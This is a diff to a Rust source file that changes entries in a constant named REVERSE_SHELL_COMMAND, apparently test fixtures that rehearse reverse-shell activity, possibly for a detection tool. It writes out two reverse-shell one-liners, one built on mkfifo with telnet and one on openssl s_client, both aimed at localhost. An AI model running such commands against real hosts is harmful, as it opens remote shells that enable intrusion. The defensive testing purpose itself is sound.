@@ -119,7 +119,7 @@ pub(super) const REVERSE_SHELL_COMMAND: &[KeyRehearsal] = &[
         &[
             "sh",
             "-c",
-            "rm -f /tmp/h;mkfifo /tmp/h; telnet 127.0.0.1 9 0</tmp/h | sh 1>/tmp/h & sleep 0.2; echo > /tmp/h; true",
+            "rm -f /tmp/h;mkfifo /tmp/h; telnet 127.0.0.1 9 0</tmp/h | sh 1>/tmp/h",
         ],
     ),
     line(
@@ -145,7 +145,7 @@ pub(super) const REVERSE_SHELL_COMMAND: &[KeyRehearsal] = &[
         &[
             "sh",
             "-c",
-            "mkfifo /tmp/s; (sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 127.0.0.1:9 > /tmp/s) & sleep 0.2; rm -f /tmp/s; true",
+            "mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 127.0.0.1:9 > /tmp/s; rm /tmp/s",
         ],
     ),
     line(
